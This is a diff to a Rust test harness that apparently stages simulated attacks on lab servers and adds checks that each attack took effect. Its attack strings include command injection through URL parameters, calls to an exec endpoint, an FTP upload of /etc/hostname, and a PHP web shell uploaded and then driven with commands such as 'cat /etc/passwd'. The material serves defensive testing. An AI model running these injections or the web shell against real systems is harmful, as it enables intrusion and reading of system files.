@@ -7,6 +7,9 @@ use std::time::Duration;
 /// Until a job of cron that runs each minute has run, and a little more.
 const CRON_TIMEOUT: Duration = Duration::from_secs(70);
 
+/// Until something that was set off has happened.
+const EFFECT_TIMEOUT: Duration = Duration::from_secs(10);
+
 const POSTGRESQL: Siege = Siege {
     server: &["/opt/servers/postgresql.sh"],
     ready: "pg_isready -q -h 127.0.0.1",
@@ -18,7 +21,7 @@ const JAVA: Siege = Siege {
     ready: "nc -z 127.0.0.1 8080",
     prepare: "",
     attack: "curl -fsS 'http://10.77.1.1:8080/exec?whoami' && curl -fsSG http://10.77.1.1:8080/run \
-             --data-urlencode 'id; uname -a; cat /etc/passwd >/dev/null'",
+             --data-urlencode 'id; uname -a; cat /etc/passwd >/dev/null' | grep uid=",
 };
 /// The main class of YARN's resource manager.
 const HADOOP: &[&str] = &[
@@ -124,7 +127,7 @@ pub(super) const REHEARSALS: &[KeyRehearsal] = &[
                 ready: "nc -z 127.0.0.1 8000",
                 prepare: "",
                 attack: "for c in 'x; id' 'x; whoami; uname -a' 'x; cat /etc/passwd'; do \
-                    curl -fsSG http://10.77.1.1:8000/ --data-urlencode \"host=$c\" || exit 1; done",
+                    curl -fsSG http://10.77.1.1:8000/ --data-urlencode \"host=$c\" || exit 1; done | grep uid=",
             }
             .play(stage)
         },
@@ -156,7 +159,7 @@ pub(super) const REHEARSALS: &[KeyRehearsal] = &[
                 prepare: "",
                 attack: "curl -fsS --disable-epsv -T /etc/hostname ftp://app:rehearsal@10.77.1.1/name.txt",
             }
-            .play(stage)
+            .play_until(stage, "grep -q uid= /tmp/who", EFFECT_TIMEOUT)
         },
     ),
     run(
@@ -167,7 +170,7 @@ pub(super) const REHEARSALS: &[KeyRehearsal] = &[
         |stage| {
             let attack = "curl -fsS -F file=@/tmp/cache.php http://10.77.1.1:8000/upload.php; \
                 for c in whoami id 'uname -a' 'cat /etc/passwd' 'ip addr' 'ls -la /var/www' pwd; do \
-                curl -fsSG http://10.77.1.1:8000/uploads/cache.php --data-urlencode \"c=$c\" || exit 1; done";
+                curl -fsSG http://10.77.1.1:8000/uploads/cache.php --data-urlencode \"c=$c\" || exit 1; done | grep uid=";
             Siege { attack, ..PHP }.play(stage)
         },
     ),
